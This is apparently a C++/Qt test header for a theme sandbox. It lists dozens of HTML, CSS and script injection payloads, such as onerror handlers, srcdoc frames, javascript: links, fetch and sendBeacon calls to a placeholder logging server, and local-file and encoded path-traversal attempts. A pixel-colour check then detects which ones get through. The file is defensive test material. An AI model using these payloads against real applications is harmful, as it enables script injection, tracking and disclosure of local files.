#pragma once

#include <QByteArray>
#include <QImage>
#include <QList>
#include <QSet>
#include <QString>
#include <QWidget>

// What a theme may try from inside its markup.
//
// A line each: a name and markup. A "-" before the name says that there is no control for it; the others are
// seen to work in an ordinary browser, or in a cell that reaches further. In the markup: $N the name, $S a
// script that leaves the name in the title, $H and $A a server that writes down what it is asked for, $P
// another that notes any connection, $M a letter to the first, $F a folder outside of the theme with red
// things in it, $D the same as a path, $T the theme by the pictures' scheme, $G something to click at.
inline const char kInside[] = R"(
inline <script>$S</script>
src <script src='$H'></script>
src-file <script src='$F/script.js'></script>
src-data <script src='data:text/javascript,$S'></script>
module <script type='module'>$S</script>
svg-script <svg><script>$S</script></svg>
onerror <img src='x' onerror='$S'>
svg-onload <svg onload='$S'></svg>
onfocus <input autofocus onfocus='$S'>
ontoggle <details open ontoggle='$S'>x</details>
animation <style>@keyframes k{from{opacity:0}}u{animation:k 1ms}</style><u onanimationend='$S'>x</u>
frame-script <iframe src='javascript:parent.$S'></iframe>
srcdoc <iframe srcdoc='<script>parent.$S</script>'></iframe>
string <widget><string>"]);$S;//</script><script>$S</script></string></widget>
fetch <script>fetch('$H')</script>
websocket <script>new WebSocket('ws://$A/$N')</script>
beacon <script>navigator.sendBeacon('$H')</script>
events <script>new EventSource('$H')</script>
worker <script>new Worker(URL.createObjectURL(new Blob(['fetch("$H")'])))</script>
img <img src='$H'>
srcset <img srcset='$H 1x'>
picture <picture><source srcset='$H'><img></picture>
css-url <b style='background:url($H)'>x</b>
css-import <style>@import url($H);</style>
css-font <style>@font-face{font-family:f;src:url($H)}</style><b style='font-family:f'>x</b>
css-cursor <b style='cursor:url($H),auto'>x</b>
css-mask <b style='-webkit-mask-image:url($H)'>x</b>
css-set <b style='background:-webkit-image-set(url($H) 1x)'>x</b>
css-content <b style='content:url($H)'>x</b>
svg-image <svg><image href='$H'></image></svg>
video <video src='$H'></video>
poster <video poster='$H'></video>
audio <audio src='$H' preload='auto'></audio>
source <audio preload='auto'><source src='$H'></audio>
-track <video><track default kind='subtitles' src='$H'></video>
iframe <iframe src='$H'></iframe>
frame-in-frame <iframe srcdoc='<iframe src=$H></iframe>'></iframe>
img-in-frame <iframe srcdoc='<img src=$H>'></iframe>
object <object data='$H'></object>
embed <embed src='$H'>
input <input type='image' src='$H'>
table <table background='$H'><tr><td>x</table>
body <body background='$H'>
stylesheet <link rel='stylesheet' href='$H'>
prefetch <link rel='prefetch' href='$H'>
preload <link rel='preload' as='image' href='$H'>
modulepreload <link rel='modulepreload' href='$H'>
-icon <link rel='icon' href='$H'>
-manifest <link rel='manifest' href='$H'>
-prerender <link rel='prerender' href='$H'>
-preconnect <link rel='preconnect' href='http://$P/'><link rel='dns-prefetch' href='http://$P/'>
-portal <portal src='$H'></portal>
-shadows <form name='open'></form><form name='write'></form><form name='close'></form><form name='querySelectorAll'></form>
file-img <img src='$F/secret.png'>
file-url <b style='background:url($F/secret.png)'>xxx</b>
file-import <style>@import url($F/import.css);</style><b class='import'>xxx</b>
file-link <link rel='stylesheet' href='$F/link.css'><b class='link'>xxx</b>
file-iframe <iframe width=50 height=30 src='$F/secret.html'></iframe>
file-object <object width=50 height=30 data='$F/secret.html'></object>
file-embed <embed width=50 height=30 src='$F/secret.html'>
file-poster <video width=50 height=30 poster='$F/secret.png'></video>
file-svg <svg><image width=50 height=30 href='$F/secret.png'></image></svg>
data-iframe <iframe width=50 height=30 src='data:text/html,<body bgcolor=red>'></iframe>
data-object <object width=50 height=30 data='data:text/html,<body bgcolor=red>'></object>
)";

// These need a page each: an ordinary browser leaves it, or it is upset by the attempt.
inline const char kAlone[] = R"(
name <widget name="x{}</style><script>$S</script>"></widget>
refresh <meta http-equiv='refresh' content='0;url=$H'>
refresh-file <meta http-equiv='refresh' content='0;url=$F/secret.html'>
-refresh-data <meta http-equiv='refresh' content='0;url=data:text/html,x'>
-refresh-script <meta http-equiv='refresh' content='0;url=javascript:$S'>
-refresh-blank <meta http-equiv='refresh' content='0;url=about:blank'>
link <a href='$H' $G
link-file <a href='$F/secret.html' $G
-link-data <a href='data:text/html,<body bgcolor=red>' $G
link-script <a href='javascript:void($S)' $G
link-blank <a target='_blank' href='$H' $G
link-top <a target='_top' href='$H' $G
link-base <base href='http://$A/' target='_blank'><a href='$N' $G
-link-about <a href='about:blank' $G
onclick <b onclick='$S' $G
ping <a href='#a' ping='$H' $G
download <a download='$N' href='$H' $G
download-data <a download='$N' href='data:,x' $G
mailto <a href='$M' $G
mailto-frame <iframe src='$M'></iframe>
form <form action='$H'><input type='submit' $G
form-post <form method='post' action='$H'><button $G
-form-blank <form target='_blank' action='$H'><button $G
form-action <form><button formaction='$H' $G
form-script <form action='javascript:void($S)'><button $G
form-file <form action='$F/secret.html'><button $G
svg-link <svg><a href='$H'><rect width=60 height=40 $G
colour <input type='color' $G
-files <input type='file' $G
)";

inline const char kPictures[] = R"(
inside <img src='$T/in.png'>
stays <img src='$T/stays.png'>
looked-up <property><imgs><mode>single</mode><img>in</img></imgs></property>
outside <img src='quillmere:$D/secret.png'>
up <img src='$T/../secret.png'>
up-coded <img src='$T/%2e%2e/secret.png'>
slash-coded <img src='$T%2f..%2fsecret.png'>
-coded-twice <img src='$T/%252e%252e/secret.png'>
backslash <img src='$T\..\secret.png'>
letters <img src='$T/../SECRET.PNG'>
host <img src='quillmere://host$D/secret.png'>
query <img src='quillmere:$D/secret.png?$T/in.png#$T/in.png'>
link-out <img src='$T/leaves.png'>
folder-out <img src='$T/away/secret.png'>
looked-up-out <property><imgs><mode>single</mode><img>up</img></imgs></property>
unfocused <property><unfocus_img>$D/theme/../secret.png</unfocus_img></property>
object <object data='quillmere:$D/secret.png'></object>
-frame <iframe src='$T/in.png'></iframe>
-sheet <link rel='stylesheet' href='$T/sheet.png'><b class='sheet'>xxx</b>
-import <style>@import url($T/sheet.png);</style><b class='sheet'>xxx</b>
)";

// In the theme and named like pictures. Only the drawing is one, and shows.
inline const char kNoPictures[] = R"(
drawing <img src='$T/drawing.svg'>
pipe <img src='$T/pipe.png'>
device <img src='$T/device.png'>
folder <img src='$T/folder.png'>
page <img src='$T/page.png'>
large <img src='$T/large.png'>
bomb <img src='$T/bomb.png'>
)";

struct Attempt
{
    QString name;
    QByteArray markup;
    bool control;
};
using Attempts = QList<Attempt>;
using Names = QSet<QString>;

inline Attempts attemptsOf(const char *lines)
{
    Attempts attempts;
    for (const QByteArray &line : QByteArray(lines).trimmed().split('\n')) {
        const bool control = !line.startsWith('-');
        const qsizetype space = line.indexOf(' ');
        attempts.append(
            {QString::fromLatin1(line.first(space).mid(control ? 0 : 1)), line.mid(space + 1), control});
    }
    return attempts;
}

inline Names controlsOf(const Attempts &attempts)
{
    Names names;
    for (const Attempt &attempt : attempts) {
        if (attempt.control)
            names.insert(attempt.name);
    }
    return names;
}

// The widget of an attempt has a place of its own, where red is looked for.
inline QRect placeOf(qsizetype index)
{
    return {int(index) % 14 * 70, int(index) / 14 * 50, 62, 42};
}

inline Names redPlaces(QWidget &view, const Attempts &attempts)
{
    const QImage shot = view.grab().toImage().convertToFormat(QImage::Format_RGB32);
    Names red;
    for (qsizetype i = 0; i < attempts.size(); ++i) {
        const QRect place = placeOf(i).adjusted(3, 3, -3, -3) & shot.rect();
        for (int y = place.top(); y <= place.bottom(); ++y) {
            const auto *line = reinterpret_cast<const QRgb *>(shot.constScanLine(y));
            for (int x = place.left(); x <= place.right(); ++x) {
                if (qRed(line[x]) > 200 && qGreen(line[x]) < 60 && qBlue(line[x]) < 60)
                    red.insert(attempts[i].name);
            }
        }
    }
    return red;
}
